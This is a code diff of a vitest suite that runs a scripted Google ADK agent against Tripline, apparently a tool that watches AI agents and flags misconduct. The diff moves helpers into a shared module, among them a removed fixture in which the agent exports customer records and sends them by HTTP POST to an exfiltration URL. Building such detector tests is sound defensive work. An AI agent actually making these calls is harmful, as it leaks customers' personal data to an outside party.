@@ -24,12 +24,24 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ToolCallDetail } from '../../schemas/events.ts';
-import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
+import { TEST_AGENT_TOKEN } from '../helpers/auth.ts';
 import { pythonFor, runPythonAgent } from '../helpers/python.ts';
-import { startTriplineProcess } from '../helpers/tripline-process.ts';
 import type { TriplineProcess } from '../helpers/tripline-process.ts';
 import { waitFor } from '../helpers/wait.ts';
-import { EXFIL_URL, VERDICT_MS, baselineView, benignCalls, getJson, rng, taskView } from '../helpers/agent-plans.ts';
+import {
+  EXFIL_URL,
+  MIXED_BENIGN,
+  VERDICT_MS,
+  WARMUP_RUN,
+  WARMUP_TASKS,
+  baselineView,
+  benignCalls,
+  exfiltrationCalls,
+  getJson,
+  rng,
+  startSuiteTripline,
+  taskView,
+} from '../helpers/agent-plans.ts';
 import type { BaselineView, Call, PlannedTask as Plan, TaskView } from '../helpers/agent-plans.ts';
 
 const FRAMEWORK = 'google_adk';
@@ -60,9 +72,6 @@ const SUITES: Suite[] = [
   },
 ];
 
-const WARMUP_TASKS = 20;
-const WARMUP_RUN = 25;
-const MIXED_BENIGN = 4;
 /** What the scripted model reports per turn (agent.py `turn_usage`). */
 const inputTokensOfTurn = (turn: number): number => 200 + 50 * turn;
 const OUTPUT_TOKENS_PER_TURN = 25;
@@ -89,13 +98,6 @@ function benignPlan(next: () => number): Call[] {
   return calls;
 }
 
-function exfiltrationCalls(): Call[] {
-  return [
-    { tool: 'export_customers', args: { limit: 50 } },
-    { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
-  ];
-}
-
 type TimelineItems = { kind: string; detail: { tool?: ToolCallDetail; inputTokens?: number; outputTokens?: number } }[];
 
 describe('Google ADK (Python), its own telemetry, against Tripline', () => {
@@ -107,12 +109,7 @@ describe('Google ADK (Python), its own telemetry, against Tripline', () => {
   beforeAll(async () => {
     // The first run installs google-adk from PyPI (about a minute); later runs reuse the cached venv.
     await pythonFor(FRAMEWORK);
-    tripline = await startTriplineProcess({
-      ...TEST_AUTH_ENV,
-      TRIPLINE_DATA_DIR: dataDir,
-      TRIPLINE_WARMUP_TASKS: String(WARMUP_TASKS),
-      LOG_LEVEL: 'warn',
-    });
+    tripline = await startSuiteTripline(dataDir);
   }, 10 * 60_000);
 
   afterAll(async () => {
